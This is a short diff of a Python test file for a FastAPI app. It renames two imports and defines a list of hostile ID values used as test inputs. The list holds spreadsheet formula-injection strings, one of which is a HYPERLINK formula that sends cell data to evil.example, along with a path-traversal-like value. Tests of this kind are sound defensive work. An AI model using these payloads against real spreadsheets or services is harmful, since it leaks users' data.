@@ -14,8 +14,8 @@ import pytest
 from conftest import IndexCorpus
 from fastapi.testclient import TestClient
 
-from app.api.main import create_app
-from app.settings import Settings
+from contam.app.api.main import create_app
+from contam.app.settings import Settings
 
 Q = "Which river flows through the ancient city of Baghdad and joins the Euphrates near Basra?"
 HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "a?b#c%d/../e"]
